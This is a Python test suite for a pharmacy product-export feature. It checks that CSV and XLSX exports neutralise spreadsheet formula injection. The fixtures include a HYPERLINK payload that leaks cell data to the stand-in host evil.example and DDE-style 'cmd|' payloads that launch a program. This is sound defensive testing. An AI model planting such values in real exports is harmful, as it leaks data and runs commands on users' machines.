"""Product exports wrote `=HYPERLINK(…)` as a live formula (penetration test, item 7). Cells that begin with
=, +, -, @, a tab or a carriage return are text in CSV and XLSX exports now; numbers stay numbers."""

import csv
import io
import zipfile

from openpyxl import load_workbook

from medreach.core import exports
from tests.conftest import SHOP_PRODUCTS

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"点击领取优惠")'


def _plant(client, staff) -> dict:
    _, h = staff("admin")
    body = {**SHOP_PRODUCTS["otc"], "sku": "EXP-1", "generic_name": PAYLOAD, "brand_name": "+cmd|' /C calc'!A0",
            "manufacturer": "@SUM(1+1)*cmd|' /C calc'!A0", "specification": "-2+3", "tags": ["=1+1"]}
    r = client.post("/api/v1/admin/products", headers=h, json=body)
    assert r.status_code == 201
    return h


def test_csv_export_escapes_formulas_and_reimports_the_same_text(client, shop, staff):
    h = _plant(client, staff)
    text = client.get("/api/v1/admin/products/export", headers=h).content.decode("utf-8-sig")
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["sku"] == "EXP-1")
    assert row["generic_name"] == "'" + PAYLOAD
    assert row["brand_name"].startswith("'+") and row["manufacturer"].startswith("'@")
    assert row["specification"] == "'-2+3" and row["tags"] == "'=1+1"
    assert not any(v.startswith(exports.FORMULA_START) for r in csv.DictReader(io.StringIO(text)) for v in r.values()
                   if v and not v.lstrip("-").replace(".", "").isdigit())
    assert row["price_fen"] == "1500" and row["stock"] == "100"  # numbers untouched
    # importing the export again keeps the text as it was typed
    report = client.post("/api/v1/admin/products/import", headers=h,
                         files={"file": ("products.csv", text.encode("utf-8"), "text/csv")}).json()
    assert report["errors"] == [] and report["updated"] == len(SHOP_PRODUCTS) + 1
    again = client.get("/api/v1/admin/products", headers=h, params={"q": "EXP-1"}).json()["items"][0]
    assert again["generic_name"] == PAYLOAD and again["tags"] == ["=1+1"]


def test_xlsx_export_writes_formulas_as_text_and_numbers_as_numbers(client, shop, staff):
    h = _plant(client, staff)
    content = client.get("/api/v1/admin/products/export", headers=h, params={"format": "xlsx"}).content
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml  # present as text, never as a formula
    sheet = load_workbook(io.BytesIO(content)).active
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("sku")].value == "EXP-1")
    cell = row[header.index("generic_name")]
    assert cell.data_type == "s" and cell.value == PAYLOAD and cell.quotePrefix
    assert row[header.index("specification")].data_type == "s"
    price = row[header.index("price_fen")]
    assert price.data_type == "n" and price.value == 1500


def test_the_one_helper_keeps_numbers_and_escapes_every_formula_start():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert exports.csv_cell(f"{start}1+1") == f"'{start}1+1"
        assert exports.unescape_cell(exports.csv_cell(f"{start}1+1")) == f"{start}1+1"
    assert exports.csv_cell(-5) == -5 and exports.csv_cell(2.5) == 2.5
    assert exports.csv_cell("普通文本") == "普通文本" and exports.unescape_cell("'普通") == "'普通"
